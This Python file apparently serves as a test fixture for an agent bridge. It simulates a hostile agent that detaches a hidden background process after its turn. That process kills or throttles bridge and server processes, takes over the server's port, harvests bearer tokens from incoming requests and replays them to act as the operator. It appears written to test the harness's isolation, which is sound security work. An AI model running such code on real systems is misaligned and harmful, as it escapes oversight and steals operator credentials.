"""A program for the `jsonl` adapter whose agent wants to become the operator, by this chain: it ends
its server, takes its port, collects a token there, and uses it at the next server, as a process that
nothing connects with a task.

    python -I -S chain_cli.py                 the CLI. Its prompt is JSON:
        {"bridge": PID, "port": PORT, "report": PATH}
      It leaves a process behind and asks for a permission; the turn ends after the answer.
    python -I -S chain_cli.py TARGETS FD      the process: it closes FD when it runs

The process has other parents, a session of its own, no environment, and is not dumpable. It tries
all steps again and again, with the tokens in `PATH.tokens`, one in each line, and those that it
collects, and writes its findings to PATH: {"rounds", "pid", "worked": {STEP: detail}}.
"""

from __future__ import annotations

import contextlib
import ctypes
import http.client
import json
import os
import resource
import signal
import socket
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

PROGRAM = str(Path(__file__).resolve())
PLACES = (
    *((socket.AF_INET, "127.0.0.1"), (socket.AF_INET, "0.0.0.0")),
    *((socket.AF_INET6, "::1"), (socket.AF_INET6, "::")),
)
LIBC = ctypes.CDLL(None, use_errno=True)


class Agent:
    def __init__(self, at: dict[str, Any]) -> None:
        self._at = at
        self._listening: list[socket.socket] = []
        self._worked: dict[str, str] = {}
        self._collected: list[str] = []
        self._rounds = 0

    def live_on(self) -> None:
        while True:
            for name, step in self._steps():
                with contextlib.suppress(OSError, ValueError, http.client.HTTPException):
                    found = step()
                    if found is not None:
                        self._worked[name] = str(found)
            self._collect()
            self._rounds += 1
            self._write()

    def _steps(self) -> Iterator[tuple[str, Callable[[], Any]]]:
        for pid in {self._at["bridge"], *self._programs()}:
            yield "limit its time", lambda pid=pid: self._limit(pid, resource.RLIMIT_CPU, (1, 1))
            yield "limit its files", lambda pid=pid: self._limit(pid, resource.RLIMIT_NOFILE, (3, 3))
            yield "slow it down", lambda pid=pid: os.setpriority(os.PRIO_PROCESS, pid, 19) or pid
            yield "bind it to a processor", lambda pid=pid: os.sched_setaffinity(pid, {0}) or pid
            yield "end it", lambda pid=pid: os.kill(pid, signal.SIGKILL) or pid
        yield "lose its mark", lambda: resource.setrlimit(10, (1, 1)) or "lost"
        for family, host in PLACES:
            yield "take its port", lambda family=family, host=host: self._listen(family, host)
        for token in self._tokens():
            yield "act as the operator", lambda token=token: self._ask(token)

    def _programs(self) -> list[int]:
        """All other processes of this user: the launcher, the guard, a neighbour, the next server.
        The test lives among them, so they are only tried where they belong to a server."""
        found = []
        for name in filter(str.isdigit, os.listdir("/proc")):
            with contextlib.suppress(OSError):
                line = Path(f"/proc/{name}/cmdline").read_bytes()
                ours = b"fork_server.py" in line or line.endswith(b"-m\0bridge\0")
                if ours and self._at["mine"] in (b"", Path(f"/proc/{name}/environ").read_bytes()):
                    found.append(int(name))
        return found

    def _limit(self, pid: int, what: int, limits: tuple[int, int]) -> int:
        resource.prlimit(pid, what, limits)
        return pid

    def _listen(self, family: int, host: str) -> str:
        with contextlib.ExitStack() as unused:
            one = unused.enter_context(socket.socket(family))
            if family == socket.AF_INET6:
                one.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
            one.bind((host, self._at["port"]))
            one.listen()
            one.setblocking(False)
            unused.pop_all()
            self._listening.append(one)
        return host

    def _collect(self) -> None:
        for one in self._listening:
            with contextlib.suppress(OSError):
                client, _ = one.accept()
                with client:
                    client.settimeout(1)
                    for line in client.recv(65536).decode("latin-1").splitlines():
                        if line.lower().startswith("authorization: bearer "):
                            self._collected.append(line.split()[-1])
                            self._worked["collect a token"] = line[:20]

    def _tokens(self) -> list[str]:
        given = Path(self._at["report"] + ".tokens")
        return [*self._collected, *(given.read_text().split() if given.exists() else [])]

    def _ask(self, token: str) -> str | None:
        connection = http.client.HTTPConnection("127.0.0.1", self._at["port"], timeout=5)
        headers = {"Authorization": f"Bearer {token}", "A2A-Version": "1.0"}
        connection.request("GET", "/tasks", headers=headers)
        status = connection.getresponse().status
        self._worked.setdefault("was refused", str(status))
        return str(status) if status not in (403, 503) else None

    def _write(self) -> None:
        part = Path(self._at["report"] + ".part")
        told = {"rounds": self._rounds, "pid": os.getpid(), "worked": self._worked}
        part.write_text(json.dumps(told))
        part.rename(self._at["report"])


def main() -> None:
    question: dict[str, Any] = {"type": "question", "id": "q", "text": "May I?"}
    question |= {"options": [{"id": "yes", "name": "yes", "kind": "allow_once"}]}
    for line in sys.stdin:
        message = json.loads(line)
        if message["type"] == "prompt":
            leave(message["text"])
            print(json.dumps(question), flush=True)
        elif message["type"] == "answer":
            print(json.dumps({"type": "done", "text": "answered"}), flush=True)


def leave(targets: str) -> None:
    """Return when the process runs."""
    reading, writing = os.pipe()
    os.set_inheritable(writing, True)
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            argv = [sys.executable, "-I", "-S", PROGRAM, targets, str(writing)]
            os.execve(sys.executable, argv, {})
        os._exit(0)
    os.close(writing)
    os.wait()
    os.read(reading, 1)


if __name__ == "__main__":
    if sys.argv[1:]:
        LIBC.prctl(4, 0, 0, 0, 0)  # PR_SET_DUMPABLE
        os.close(int(sys.argv[2]))
        Agent(json.loads(sys.argv[1])).live_on()
    else:
        main()
